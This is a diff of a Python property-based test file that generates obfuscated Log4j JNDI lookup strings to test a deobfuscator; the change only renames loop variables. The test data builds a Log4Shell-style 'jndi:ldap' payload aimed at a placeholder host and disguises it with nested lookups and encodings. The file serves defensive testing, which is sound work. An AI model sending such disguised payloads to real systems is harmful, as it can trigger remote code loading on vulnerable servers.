@@ -104,7 +104,7 @@ _KEYS = st.sampled_from(["env:NaN", "sys:x", "", "::", "k8s:a", "ctx:q", "lower"
 def disguised_character(draw: st.DrawFn, char: str) -> str:
     """One character inside up to three lookups."""
     written = char
-    for _ in range(draw(st.integers(0, 3))):
+    for _dummy in range(draw(st.integers(0, 3))):
         kind = draw(st.sampled_from(["plain", "lower", "upper", "default"]))
         if kind == "lower" and char.isalpha():
             written = f"${{lower:{written}}}"
@@ -132,7 +132,7 @@ def disguised_lookup(draw: st.DrawFn) -> str:
     """A lookup whose characters are disguised one by one, encoded as a whole up to twice."""
     inner = "".join(draw(disguised_character(char)) for char in "jndi:ldap://h.example:99/a")
     written = f"${{{inner}}}"
-    for _ in range(draw(st.integers(0, 2))):
+    for _dummy in range(draw(st.integers(0, 2))):
         written = _ENCODERS[draw(st.sampled_from(sorted(_ENCODERS)))](written)
     return written
 
@@ -183,7 +183,7 @@ def test_time_grows_with_length_only() -> None:
     def seconds(depth: int) -> float:
         line = "${lower:" * depth + "x" * (8 * depth) + "}" * depth
         began = time.process_time()
-        for _ in range(5):
+        for _dummy in range(5):
             jndi.deobfuscate(line)
         return time.process_time() - began
 
